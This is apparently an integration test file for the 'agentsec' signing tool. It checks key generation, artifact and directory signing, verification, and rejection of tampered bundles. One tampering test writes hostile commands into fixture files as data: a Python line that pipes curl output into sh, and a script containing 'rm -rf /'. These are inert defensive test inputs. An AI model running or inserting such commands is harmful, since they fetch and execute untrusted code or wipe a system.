//! Round trips of `agentsec keygen | sign | verify` with keys, through the real binary.

use std::path::Path;
use std::process::Output;

use assert_cmd::Command;
use tempfile::TempDir;

const PASSWORD: &str = "correct horse battery staple";

fn agentsec(dir: &Path, args: &[&str]) -> Output {
    Command::cargo_bin("agentsec")
        .expect("binary")
        .current_dir(dir)
        .env("AGENTSEC_PASSWORD", PASSWORD)
        .env_remove("SIGSTORE_ID_TOKEN")
        .env_remove("ACTIONS_ID_TOKEN_REQUEST_URL")
        .env_remove("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
        .args(args)
        .output()
        .expect("run agentsec")
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[track_caller]
fn ok(o: Output) -> String {
    assert_eq!(o.status.code(), Some(0), "expected success:\n{}", text(&o));
    text(&o)
}

#[track_caller]
fn fails(o: Output, code: i32, needle: &str) -> String {
    let t = text(&o);
    assert_eq!(o.status.code(), Some(code), "expected exit {code}:\n{t}");
    assert!(t.contains(needle), "expected '{needle}' in:\n{t}");
    t
}

fn keygen(dir: &Path, alg: &str, prefix: &str) {
    ok(agentsec(
        dir,
        &["keygen", "--algorithm", alg, "--output", prefix],
    ));
}

#[test]
fn keygen_writes_encrypted_private_and_public_pem() {
    let t = TempDir::new().unwrap();
    for alg in ["p256", "ed25519"] {
        keygen(t.path(), alg, alg);
        let private = std::fs::read_to_string(t.path().join(format!("{alg}.key"))).unwrap();
        let public = std::fs::read_to_string(t.path().join(format!("{alg}.pub"))).unwrap();
        assert!(private.starts_with("-----BEGIN ENCRYPTED PRIVATE KEY-----\n"));
        assert!(public.starts_with("-----BEGIN PUBLIC KEY-----\n"));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            let mode = std::fs::metadata(t.path().join(format!("{alg}.key")))
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(
                mode & 0o077,
                0,
                "private key must not be readable by others"
            );
        }
    }
    // Refuses to overwrite.
    fails(
        agentsec(t.path(), &["keygen", "--output", "p256"]),
        2,
        "already exists",
    );
    ok(agentsec(
        t.path(),
        &["keygen", "--output", "p256", "--force"],
    ));
}

fn file_round_trip(alg: &str) {
    let t = TempDir::new().unwrap();
    let d = t.path();
    keygen(d, alg, "k");
    keygen(d, alg, "other");
    std::fs::write(d.join("server.mcpb"), b"artifact bytes\n").unwrap();
    ok(agentsec(d, &["sign", "server.mcpb", "--key", "k.key"]));

    let bundle: serde_json::Value =
        serde_json::from_slice(&std::fs::read(d.join("server.mcpb.sigstore.json")).unwrap())
            .unwrap();
    assert_eq!(
        bundle["mediaType"],
        "application/vnd.dev.sigstore.bundle.v0.3+json"
    );
    assert_eq!(
        bundle["messageSignature"]["messageDigest"]["algorithm"],
        "SHA2_256"
    );
    assert_eq!(
        bundle["verificationMaterial"]["publicKey"]["hint"]
            .as_str()
            .unwrap()
            .len(),
        64
    );

    let out = ok(agentsec(d, &["verify", "server.mcpb", "--key", "k.pub"]));
    assert!(out.contains("OK"), "{out}");

    // Wrong key.
    fails(
        agentsec(d, &["verify", "server.mcpb", "--key", "other.pub"]),
        1,
        "invalid signature",
    );

    // Explicit bundle path.
    ok(agentsec(
        d,
        &[
            "sign",
            "server.mcpb",
            "--key",
            "k.key",
            "--bundle",
            "b.json",
        ],
    ));
    ok(agentsec(
        d,
        &[
            "verify",
            "server.mcpb",
            "--bundle",
            "b.json",
            "--key",
            "k.pub",
        ],
    ));

    // Tampered artifact.
    std::fs::write(d.join("server.mcpb"), b"artifact bytes, modified\n").unwrap();
    fails(
        agentsec(d, &["verify", "server.mcpb", "--key", "k.pub"]),
        1,
        "digest mismatch",
    );
}

#[test]
fn file_round_trip_p256() {
    file_round_trip("p256");
}

#[test]
fn file_round_trip_ed25519() {
    file_round_trip("ed25519");
}

#[test]
fn broken_bundles_fail_clearly() {
    let t = TempDir::new().unwrap();
    let d = t.path();
    keygen(d, "p256", "k");
    std::fs::write(d.join("a.txt"), b"hello\n").unwrap();
    ok(agentsec(d, &["sign", "a.txt", "--key", "k.key"]));
    let good = std::fs::read_to_string(d.join("a.txt.sigstore.json")).unwrap();

    // Missing bundle.
    fails(
        agentsec(
            d,
            &["verify", "a.txt", "--key", "k.pub", "--bundle", "none.json"],
        ),
        1,
        "cannot read bundle",
    );
    // Truncated.
    std::fs::write(d.join("trunc.json"), &good[..good.len() / 2]).unwrap();
    fails(
        agentsec(
            d,
            &[
                "verify",
                "a.txt",
                "--key",
                "k.pub",
                "--bundle",
                "trunc.json",
            ],
        ),
        1,
        "invalid bundle",
    );
    // Wrong media type.
    let mut v: serde_json::Value = serde_json::from_str(&good).unwrap();
    v["mediaType"] = "application/json".into();
    std::fs::write(d.join("mt.json"), v.to_string()).unwrap();
    fails(
        agentsec(
            d,
            &["verify", "a.txt", "--key", "k.pub", "--bundle", "mt.json"],
        ),
        1,
        "media type",
    );
    // Altered signature.
    let mut v: serde_json::Value = serde_json::from_str(&good).unwrap();
    let sig = v["messageSignature"]["signature"]
        .as_str()
        .unwrap()
        .to_string();
    let flipped = if sig.starts_with("MEU") {
        sig.replacen("MEU", "MEQ", 1)
    } else {
        format!("{}A{}", &sig[..10], &sig[11..])
    };
    v["messageSignature"]["signature"] = flipped.into();
    std::fs::write(d.join("sig.json"), v.to_string()).unwrap();
    fails(
        agentsec(
            d,
            &["verify", "a.txt", "--key", "k.pub", "--bundle", "sig.json"],
        ),
        1,
        "signature",
    );
    // Altered digest: reported as a digest mismatch.
    let mut v: serde_json::Value = serde_json::from_str(&good).unwrap();
    v["messageSignature"]["messageDigest"]["digest"] =
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=".into();
    std::fs::write(d.join("dig.json"), v.to_string()).unwrap();
    fails(
        agentsec(
            d,
            &["verify", "a.txt", "--key", "k.pub", "--bundle", "dig.json"],
        ),
        1,
        "digest mismatch",
    );
    // No signature content at all.
    let mut v: serde_json::Value = serde_json::from_str(&good).unwrap();
    v.as_object_mut().unwrap().remove("messageSignature");
    std::fs::write(d.join("empty.json"), v.to_string()).unwrap();
    fails(
        agentsec(
            d,
            &[
                "verify",
                "a.txt",
                "--key",
                "k.pub",
                "--bundle",
                "empty.json",
            ],
        ),
        1,
        "exactly one of",
    );
    // An unusable trusted root is an input error (exit 2), not a verification failure.
    let root = d.join("root.json");
    std::fs::write(&root, "{}").unwrap();
    fails(
        agentsec(
            d,
            &[
                "verify",
                "a.txt",
                "--certificate-identity",
                "me@example.com",
                "--certificate-oidc-issuer",
                "https://issuer.example",
                "--trusted-root",
                root.to_str().unwrap(),
            ],
        ),
        2,
        "invalid trusted root",
    );
}

#[test]
fn usage_errors_exit_2() {
    let t = TempDir::new().unwrap();
    let d = t.path();
    keygen(d, "p256", "k");
    std::fs::write(d.join("a.txt"), b"hello\n").unwrap();
    // No trust policy.
    fails(agentsec(d, &["verify", "a.txt"]), 2, "--key");
    // Missing artifact.
    fails(
        agentsec(d, &["verify", "missing.txt", "--key", "k.pub"]),
        2,
        "does not exist",
    );
    // Wrong password.
    let o = Command::cargo_bin("agentsec")
        .unwrap()
        .current_dir(d)
        .env("AGENTSEC_PASSWORD", "wrong")
        .args(["sign", "a.txt", "--key", "k.key"])
        .output()
        .unwrap();
    fails(o, 2, "wrong password");
    // Keyless without any identity.
    fails(
        agentsec(d, &["sign", "a.txt"]),
        2,
        "no --key and no OIDC identity",
    );
    // Keyless with an unreachable Fulcio.
    fails(
        agentsec(
            d,
            &[
                "sign",
                "a.txt",
                "--identity-token",
                "eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSIsImlzcyI6Imh0dHBzOi8vaXNzdWVyLmV4YW1wbGUifQ.x",
                "--fulcio-url",
                "http://127.0.0.1:9",
                "--rekor-url",
                "http://127.0.0.1:9",
            ],
        ),
        2,
        "Fulcio",
    );
    // A token that is not a JWT.
    fails(
        agentsec(d, &["sign", "a.txt", "--identity-token", "not-a-jwt"]),
        2,
        "not a JWT",
    );
    // --bundle with several paths.
    std::fs::write(d.join("b.txt"), b"b\n").unwrap();
    fails(
        agentsec(
            d,
            &[
                "sign", "a.txt", "b.txt", "--key", "k.key", "--bundle", "x.json",
            ],
        ),
        2,
        "single PATH",
    );
}

fn dir_round_trip(alg: &str) {
    let t = TempDir::new().unwrap();
    let d = t.path();
    keygen(d, alg, "k");
    let skill = d.join("my-skill");
    std::fs::create_dir_all(skill.join("scripts")).unwrap();
    std::fs::create_dir_all(skill.join(".git")).unwrap();
    std::fs::write(skill.join("SKILL.md"), b"# skill\n").unwrap();
    std::fs::write(skill.join("scripts/run.py"), b"print('hi')\n").unwrap();
    std::fs::write(skill.join("scripts/util.py"), b"x = 1\n").unwrap();
    std::fs::write(skill.join(".git/HEAD"), b"ref: refs/heads/main\n").unwrap();

    ok(agentsec(d, &["sign", "my-skill", "--key", "k.key"]));
    let bundle: serde_json::Value =
        serde_json::from_slice(&std::fs::read(d.join("my-skill.sigstore.json")).unwrap()).unwrap();
    let env = &bundle["dsseEnvelope"];
    assert_eq!(env["payloadType"], "application/vnd.in-toto+json");
    use base64::Engine as _;
    let payload = base64::engine::general_purpose::STANDARD
        .decode(env["payload"].as_str().unwrap())
        .unwrap();
    let st: serde_json::Value = serde_json::from_slice(&payload).unwrap();
    assert_eq!(st["_type"], "https://in-toto.io/Statement/v1");
    assert_eq!(st["predicateType"], "https://model_signing/signature/v1.0");
    assert_eq!(st["subject"][0]["name"], "my-skill");
    let names: Vec<&str> = st["predicate"]["resources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["SKILL.md", "scripts/run.py", "scripts/util.py"]);

    let out = ok(agentsec(d, &["verify", "my-skill", "--key", "k.pub"]));
    assert!(out.contains("3 files"), "{out}");

    // Git metadata is not part of the attestation.
    std::fs::write(skill.join(".git/HEAD"), b"ref: refs/heads/other\n").unwrap();
    ok(agentsec(d, &["verify", "my-skill", "--key", "k.pub"]));

    // A bundle inside the directory is excluded from its own attestation.
    ok(agentsec(
        d,
        &[
            "sign",
            "my-skill",
            "--key",
            "k.key",
            "--bundle",
            "my-skill/model.sig",
        ],
    ));
    ok(agentsec(
        d,
        &[
            "verify",
            "my-skill",
            "--key",
            "k.pub",
            "--bundle",
            "my-skill/model.sig",
        ],
    ));

    // Added, removed and changed files are all named.
    std::fs::write(
        skill.join("scripts/run.py"),
        b"import os; os.system('curl x|sh')\n",
    )
    .unwrap();
    std::fs::remove_file(skill.join("scripts/util.py")).unwrap();
    std::fs::write(skill.join("extra.sh"), b"rm -rf /\n").unwrap();
    let out = fails(
        agentsec(d, &["verify", "my-skill", "--key", "k.pub"]),
        1,
        "does not match",
    );
    assert!(out.contains("changed: scripts/run.py"), "{out}");
    assert!(out.contains("removed: scripts/util.py"), "{out}");
    assert!(out.contains("added: extra.sh"), "{out}");
}

#[test]
fn dir_round_trip_p256() {
    dir_round_trip("p256");
}

#[test]
fn dir_round_trip_ed25519() {
    dir_round_trip("ed25519");
}

#[test]
fn dir_attestation_wrong_key_and_tampered_payload() {
    let t = TempDir::new().unwrap();
    let d = t.path();
    keygen(d, "p256", "k");
    keygen(d, "p256", "other");
    std::fs::create_dir_all(d.join("m")).unwrap();
    std::fs::write(d.join("m/weights.bin"), b"\x00\x01\x02").unwrap();
    ok(agentsec(d, &["sign", "m", "--key", "k.key"]));
    fails(
        agentsec(d, &["verify", "m", "--key", "other.pub"]),
        1,
        "invalid signature",
    );
    // Swap the payload for one listing different digests: the signature no longer holds.
    let path = d.join("m.sigstore.json");
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD;
    let payload = b64
        .decode(v["dsseEnvelope"]["payload"].as_str().unwrap())
        .unwrap();
    let forged = String::from_utf8(payload)
        .unwrap()
        .replace("weights.bin", "weights.bim");
    v["dsseEnvelope"]["payload"] = b64.encode(forged).into();
    std::fs::write(&path, v.to_string()).unwrap();
    fails(
        agentsec(d, &["verify", "m", "--key", "k.pub"]),
        1,
        "invalid signature",
    );
}

#[test]
fn cosign_encrypted_keys_are_accepted() {
    let t = TempDir::new().unwrap();
    let d = t.path();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/sign");
    let key = fixtures.join("cosign-p256.key");
    let public = fixtures.join("cosign-p256.pub");
    std::fs::write(d.join("a.txt"), b"hello\n").unwrap();
    let sign = |key: &Path, password: &str| {
        Command::cargo_bin("agentsec")
            .unwrap()
            .current_dir(d)
            .env("AGENTSEC_PASSWORD", password)
            .args(["sign", "a.txt", "--key", key.to_str().unwrap()])
            .output()
            .unwrap()
    };
    ok(sign(&key, "agentsec-test"));
    ok(agentsec(
        d,
        &["verify", "a.txt", "--key", public.to_str().unwrap()],
    ));
    fails(sign(&key, "not-the-password"), 2, "wrong password");

    // The older cosign label is accepted too.
    let old = std::fs::read_to_string(&key)
        .unwrap()
        .replace("SIGSTORE PRIVATE KEY", "COSIGN PRIVATE KEY");
    let old_key = d.join("old-cosign.key");
    std::fs::write(&old_key, old).unwrap();
    ok(sign(&old_key, "agentsec-test"));
    ok(agentsec(
        d,
        &["verify", "a.txt", "--key", public.to_str().unwrap()],
    ));
}
